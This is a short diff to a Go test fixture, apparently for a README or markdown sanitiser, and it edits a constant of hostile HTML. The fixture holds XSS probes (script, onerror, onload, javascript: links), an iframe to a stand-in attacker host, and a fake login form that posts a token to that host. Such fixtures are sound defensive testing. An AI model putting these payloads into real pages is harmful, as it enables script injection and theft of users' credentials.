@@ -16,7 +16,7 @@ import (
 // hostile is a readme of somebody who wants to get out of it.
 const hostile = `# The title
 
-<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">press</a>
+<script>alert(1)</script><img src=docs/dot.png onerror=alert(1)><a href="javascript:alert(1)">press</a>
 <svg onload=alert(1)></svg><iframe src="https://evil.example.com"></iframe><style>body{display:none}</style>
 <form action="https://evil.example.com"><input name=token><button>Log in</button></form>
 <div style="position:fixed" class="top" id="main">over the page</div>
